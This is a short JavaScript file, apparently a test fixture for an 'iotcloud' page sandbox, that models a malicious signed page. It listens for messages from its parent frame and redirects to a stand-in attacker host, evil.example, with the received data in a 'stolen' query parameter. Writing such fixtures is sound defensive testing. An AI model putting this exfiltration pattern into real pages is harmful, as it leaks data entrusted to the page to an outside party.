// iotcloud page: {"title": "Leaving", "driver": "turtle"}
// A signed page that tries to carry what it was told to another site, by going there.
"use strict";
addEventListener("message", (event) => {
  if (event.source !== parent) return;
  location.href = `http://evil.example/?stolen=${encodeURIComponent(JSON.stringify(event.data))}`;
});
